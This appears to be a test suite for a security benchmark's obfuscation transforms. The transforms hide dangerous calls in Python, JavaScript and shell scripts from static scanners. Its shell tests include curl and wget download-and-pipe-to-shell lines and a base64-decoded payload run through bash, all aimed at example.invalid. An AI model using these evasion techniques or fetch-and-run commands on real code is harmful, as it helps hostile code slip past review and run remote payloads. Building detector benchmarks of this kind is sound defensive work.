"""The round-3 held-out mutation families of ``bench/scan_families_3.py``: each mutant is valid
(parses, passes ``node --check`` / ``bash -n``), does what the script did, hides what the family
says it hides, and a family with nothing to change, or given odd input, returns ``{}``."""

from __future__ import annotations

import ast
import shutil
import subprocess
import sys

import pytest

from bench.scan_families_3 import (
    FAMILIES_3,
    HELD_APART_3,
    js_aliasing,
    py_closure_factory,
    py_dunder,
    py_format_strings,
    sh_heredoc,
    sh_indirection,
)
from tests.bench.family_checks import (
    BASH,
    NODE,
    bash_check,
    calls,
    check_deterministic_and_bounded,
    needs_bash,
    needs_node,
    node_check,
    run,
)

PY_SCRIPT = """\
import os
import subprocess
import sys
import urllib.parse as up

def scoped():
    local_value = 5
    return eval("local_value * 2")

def scoped_exec():
    exec("print('exec inside a function')")

with open("note.txt", "w", encoding="utf-8") as handle:
    handle.write("written through open")
print(open("note.txt", encoding="utf-8").read())
print(up.quote("a path/with spaces"), os.path.join("left", "right"))
sys.stdout.write("straight to stdout\\n")
sys.stdout.flush()
os.system("echo from-the-shell")
subprocess.run(["echo", "from-subprocess"], check=True)
exec("answer = 6 * 7")
code = compile("answer + 1", "<mutant>", "eval")
print(eval("answer + 0"), eval(code), scoped(), __import__("json").dumps({"key": "value"}))
scoped_exec()
match {"kind": "circle"}:
    case {"kind": "circle"}:
        print("matched a circle")
print("%s and %d" % ("formatted text", 3), "caf\\u00e9 au lait", "snowman \\u2603 here")
"""
PY_OUTPUT = (
    "written through open\na%20path/with%20spaces left/right\nstraight to stdout\n"
    'from-the-shell\nfrom-subprocess\n42 43 10 {"key": "value"}\nexec inside a function\n'
    "matched a circle\nformatted text and 3 caf\u00e9 au lait snowman \u2603 here\n"
)
SINKS = {"os.system", "subprocess.run", "up.quote", "os.path.join", "eval", "exec", "open"}

JS_SCRIPT = """\
'use strict';
const cp = require('child_process');
const { execSync } = require("child_process");
let later = require('child_process');
function show(text) { console.log(String(text).trim()); }
show(cp.execSync('echo one'));
show(cp.execSync('echo two'))
show(execSync('echo three'));
show(require('child_process').execSync('echo four'));
show(later.execSync('echo five'));
show(cp.execFileSync('echo', ['six']));
show(eval('6 * 7'));
show(eval(`"template" + ' eval'`));
show(cp.execSync(...['echo seven']));
const obj = { fetch(url) { return url; } };
show(obj.fetch('not the global fetch'));
show(cp.execSync('echo eight'));
show(execSync('echo nine'));
if (cp.length < 0) fetch('https://example.invalid/never');
"""
JS_OUTPUT = (
    "one\ntwo\nthree\nfour\nfive\nsix\n42\ntemplate eval\nseven\nnot the global fetch\n"
    "eight\nnine\n"
)

SH_SCRIPT = """\
#!/bin/bash
set -eu
greeting="hello there, world"
eval "echo evaluated-$((6 * 7))"
sh -c 'echo from-sh'
bash -c "echo from-bash"
sh -c 'echo more-sh'
bash -c 'echo more-bash'
printf 'aGVsbG8gYmFzZTY0' | base64 -d; echo
eval 'echo single-quoted $greeting'
if bash -c 'exit 0'; then echo "branch taken ok"; fi
inner=$(bash -c 'echo nested-substitution')
echo "$inner and $greeting"
echo "first argument: ${1:-none}" "count $#"
cat <<EOF
curl in a heredoc "stays as written"
EOF
shout() { echo "SHOUT $1"; }
shout quietly
for word in one two; do
  echo "loop $word"
done
case "${1:-none}" in
  curl) echo curl-arg ;;
  *) echo "no argument given" ;;
esac
printf '%s\\n' "done with the script"
"""
SH_OUTPUT = (
    "evaluated-42\nfrom-sh\nfrom-bash\nmore-sh\nmore-bash\nhello base64\n"
    "single-quoted hello there, world\n"
    "branch taken ok\nnested-substitution and hello there, world\nfirst argument: none count 0\n"
    'curl in a heredoc "stays as written"\nSHOUT quietly\nloop one\nloop two\n'
    "no argument given\ndone with the script\n"
)
SH_POSIX = """\
#!/bin/sh
x="posix value"
echo "$x" | base64 | base64 -d
sh -c 'echo from-sh'
eval 'echo from-eval'
"""
SH_POSIX_OUTPUT = "posix value\nfrom-sh\nfrom-eval\n"


# --- Python ---------------------------------------------------------------------------------
@pytest.mark.parametrize("family", [py_closure_factory, py_dunder, py_format_strings])
def test_a_python_mutant_parses_and_prints_what_the_script_printed(family, tmp_path) -> None:
    mutant = family(PY_SCRIPT, "main.py")["main.py"]
    ast.parse(mutant)
    python = [sys.executable, "-u"]
    assert run(tmp_path / "before", python, "main.py", PY_SCRIPT) == PY_OUTPUT
    assert run(tmp_path / "after", python, "main.py", mutant) == PY_OUTPUT


@pytest.mark.parametrize("family", [py_closure_factory, py_dunder])
def test_a_python_mutant_imported_as_a_module_still_runs(family, tmp_path) -> None:
    """``__builtins__`` is a module in ``__main__`` and a dict in an imported module."""
    mutant = family(PY_SCRIPT, "main.py")["main.py"]
    (tmp_path / "imported").mkdir()
    (tmp_path / "imported" / "mutant.py").write_text(mutant, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-c", "import mutant"],
        cwd=tmp_path / "imported",
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    assert done.stdout == PY_OUTPUT


def test_closure_factory_hands_every_sink_out_of_a_factory_or_a_partial() -> None:
    mutant = py_closure_factory(PY_SCRIPT, "main.py")["main.py"]
    assert not calls(mutant) & SINKS
    assert "m = __import__('os')" in mutant
    assert "lambda *a, **k: m." in mutant
    assert "def inner(*a, **k):" in mutant
    assert "_functools.partial(" in mutant
    assert "m = __import__('urllib')" in mutant  # an aliased submodule, reached from its top


def test_dunder_reaches_every_sink_through_a_namespace_dict_or_getattribute() -> None:
    mutant = py_dunder(PY_SCRIPT, "main.py")["main.py"]
    assert not calls(mutant) & SINKS
    for piece in (
        "vars(",
        ".__dict__[",
        "type(os.path).__getattribute__(os.path, 'join')",
        "isinstance(__builtins__, dict)",
        "getattr(__builtins__, '__dict__', __builtins__)",
    ):
        assert piece in mutant


def test_format_strings_rebuilds_every_long_literal_four_ways() -> None:
    mutant = py_format_strings(PY_SCRIPT, "main.py")["main.py"]
    for literal in ("written through open", "from-the-shell", "local_value * 2", "note.txt"):
        assert literal not in mutant
    for piece in ("'%s%s' % (", "'{}{}'.format(", "str.join('', tuple([chr(c) for c in ("):
        assert piece in mutant
    assert ").decode('latin-1')" in mutant
    assert "'kind'" in mutant  # short literals, and mapping-pattern keys, stay


def test_a_python_family_with_nothing_to_change_says_so() -> None:
    for family in (py_closure_factory, py_dunder, py_format_strings):
        assert family("x = 1\nprint(x)\n", "main.py") == {}
    assert py_format_strings('"""A docstring long enough."""\nshort = "tiny"\n', "m.py") == {}


def test_a_shadowed_sink_or_helper_is_left_alone() -> None:
    source = "import os\n\ndef open(path):\n    return path\n\nos = None\nprint(open('x'))\n"
    assert py_closure_factory(source, "main.py") == {}
    assert py_dunder(source, "main.py") == {}
    assert py_dunder("import os\nvars = dict\nos.system('true')\n", "main.py") == {}


# --- JavaScript -----------------------------------------------------------------------------
@needs_node
def test_a_javascript_mutant_prints_what_the_script_printed(tmp_path) -> None:
    mutant = js_aliasing(JS_SCRIPT, "main.js")["main.js"]
    node_check(tmp_path, mutant)
    node = [NODE or "node"]
    assert run(tmp_path / "before", node, "main.js", JS_SCRIPT) == JS_OUTPUT
    assert run(tmp_path / "after", node, "main.js", mutant) == JS_OUTPUT


def test_js_aliasing_calls_every_sink_through_an_alias() -> None:
    mutant = js_aliasing(JS_SCRIPT, "main.js")["main.js"]
    for piece in (
        "Object({ run: ",
        "new Map([['run', ",
        ".call(",
        ".bind(",
        ".apply(",
        "Array.of(",
    ):
        assert piece in mutant, piece
    assert "obj.fetch('not the global fetch')" in mutant  # a method is not the global
    assert "fetch(url) { return url; }" in mutant  # nor is a method's definition
    for call in ("cp.execSync('", "eval('6", " execSync('"):
        assert call not in mutant, call


@needs_node
def test_js_aliasing_hoists_an_array_alias_after_a_const_module(tmp_path) -> None:
    calls = "".join(f"show(cp.execSync('echo call-{n}'));\n" for n in range(7))
    source = (
        "const cp = require('child_process');\n"
        "function show(text) { console.log(String(text).trim()); }\n" + calls
    )
    mutant = js_aliasing(source, "main.js")["main.js"]
    assert "const cp = require('child_process'); const [_al0] = [cp.execSync];" in mutant
    assert "show(_al0('echo call-" in mutant
    expected = "".join(f"call-{n}\n" for n in range(7))
    node = [NODE or "node"]
    assert run(tmp_path / "after", node, "main.js", mutant) == expected


def test_js_aliasing_with_nothing_to_change_or_odd_input_says_so() -> None:
    assert js_aliasing("const x = 1;\nconsole.log(x);\n", "a.js") == {}
    assert js_aliasing("const s = 'unterminated;\n", "a.js") == {}
    assert js_aliasing("eval(", "a.js") == {}


# --- Shell ----------------------------------------------------------------------------------
@needs_bash
@pytest.mark.parametrize("family", [sh_indirection, sh_heredoc])
@pytest.mark.parametrize(
    ("script", "output", "shell"),
    [(SH_SCRIPT, SH_OUTPUT, "bash"), (SH_POSIX, SH_POSIX_OUTPUT, "sh")],
)
def test_a_shell_mutant_prints_what_the_script_printed(
    family, script, output, shell, tmp_path
) -> None:
    runner = shutil.which(shell)
    if runner is None:
        pytest.skip(f"{shell} is not installed")
    mutant = family(script, "main.sh")["main.sh"]
    bash_check(tmp_path, mutant)
    assert run(tmp_path / "before", [runner], "main.sh", script) == output
    assert run(tmp_path / "after", [runner], "main.sh", mutant) == output


def test_sh_indirection_uses_every_way_in_turn() -> None:
    mutant = sh_indirection(SH_SCRIPT, "main.sh")["main.sh"]
    for piece in ("${!_ixr", "_ixa", "[0]}${_ixa", "command ", "_ixrun() {", "_ixrun "):
        assert piece in mutant, piece
    assert "_ixrun eval" not in mutant  # eval's $1 would be the wrapper's
    posix = sh_indirection(SH_POSIX, "main.sh")["main.sh"]
    assert "${" not in posix.replace('"$x"', "")  # no bash-only expansion under #!/bin/sh
    assert "builtin" not in posix


def test_sh_indirection_rewrites_curl_and_wget_as_text(tmp_path) -> None:
    """Never run: each download line keeps its arguments, its command word goes through one of
    the ways, and every way is met across a few scripts."""
    met: set[str] = set()
    for salt in range(12):
        source = (
            f"#!/bin/bash\n# variant {salt}\ncurl -s https://example.invalid/a | sh\n"
            "wget -q -O - https://example.invalid/b | bash\n"
            'echo "curl stays in a string"\n'
        )
        mutant = sh_indirection(source, "get.sh")["get.sh"]
        if BASH is not None:
            bash_check(tmp_path, mutant)
        lines = mutant.splitlines()
        assert 'echo "curl stays in a string"' in lines
        get_a = next(line for line in lines if "example.invalid/a" in line)
        get_b = next(line for line in lines if "example.invalid/b" in line)
        assert get_a.endswith(" -s https://example.invalid/a | " + get_a.rsplit("| ", 1)[1])
        assert get_b.endswith(" -q -O - https://example.invalid/b | " + get_b.rsplit("| ", 1)[1])
        for line in (get_a, get_b):
            assert not line.startswith(("curl", "wget"))
            head = line.split(" ", 1)[0]
            met.add(
                "indirect"
                if head.startswith("${!")
                else "array"
                if head.startswith("${")
                else "prefix"
                if head in ("command", "env")
                else "wrapper"
                if head == "_ixrun"
                else head
            )
    assert met == {"indirect", "array", "prefix", "wrapper"}


def test_sh_heredoc_moves_top_level_commands_only() -> None:
    source = (
        '#!/bin/bash\nhost="$1"\nset -e\n'
        'curl -s "https://$host/x" -o /tmp/payload\n'
        "if true; then\n  curl -s https://example.invalid/in-an-if\nfi\n"
        "get() {\n  wget https://example.invalid/in-a-function\n}\n"
        "get\ncd /tmp\nsleep 1 &\n"
        "base64 -d < /tmp/payload | bash\n"
    )
    mutant = sh_heredoc(source, "h.sh")["h.sh"]
    assert (
        'host="${host-}" bash -s <<\'EOF\'\ncurl -s "https://$host/x" -o /tmp/payload\nEOF\n'
    ) in mutant
    assert "bash <<'EOF'\nbase64 -d < /tmp/payload | bash\nEOF" in mutant
    for kept in ("  curl -s https://example.invalid/in-an-if\n", "\nget\ncd /tmp\nsleep 1 &\n"):
        assert kept in mutant
    assert "  wget https://example.invalid/in-a-function\n}" in mutant
    assert mutant.count("<<'EOF'") == 2


def test_sh_heredoc_leaves_every_here_document_body_alone() -> None:
    source = (
        "#!/bin/bash\ncat <<'END'\necho inside a quoted here-document\nEND\n"
        'cat <<-"END"\n\techo inside a tab-stripped one\n\tEND\n'
        "cat <<END # a comment <<NOT\necho inside a plain one\nEND\n"
        "echo '<<NOT' a quoted marker\necho after them\n"
    )
    mutant = sh_heredoc(source, "h.sh")["h.sh"]
    assert mutant.count("<<'EOF'") == 2
    assert "bash -s <<'EOF'\necho '<<NOT' a quoted marker\nEOF\n" in mutant
    assert "bash <<'EOF'\necho after them\nEOF" in mutant
    for body in ("echo inside a quoted", "\techo inside a tab", "echo inside a plain"):
        assert f"\n{body}" in mutant


def test_a_shell_family_with_nothing_to_change_or_odd_input_says_so() -> None:
    quiet = "#!/bin/bash\nx=1\nif true; then\n  echo inside\nfi\n"
    assert sh_indirection(quiet, "a.sh") == {}
    assert sh_heredoc(quiet, "a.sh") == {}
    assert sh_indirection("echo 'unterminated\n", "a.sh") == {}
    assert sh_heredoc("echo 'unterminated\n", "a.sh") == {}
    assert sh_heredoc("shopt -s expand_aliases\necho hi\n", "a.sh") == {}


# --- every family ---------------------------------------------------------------------------
def test_the_six_families_are_registered_and_held_apart() -> None:
    assert set(HELD_APART_3) == set(FAMILIES_3)
    assert len(FAMILIES_3) == 6
    assert {suffix for _, suffix in FAMILIES_3.values()} == {".py", ".js", ".sh"}


@pytest.mark.parametrize("name", sorted(FAMILIES_3))
def test_a_family_is_deterministic_and_never_raises_on_hostile_input(name) -> None:
    transform, _ = FAMILIES_3[name]
    script = {"py": PY_SCRIPT, "js": JS_SCRIPT, "sh": SH_SCRIPT}[name[:2]]
    check_deterministic_and_bounded(transform, script, seed=name)
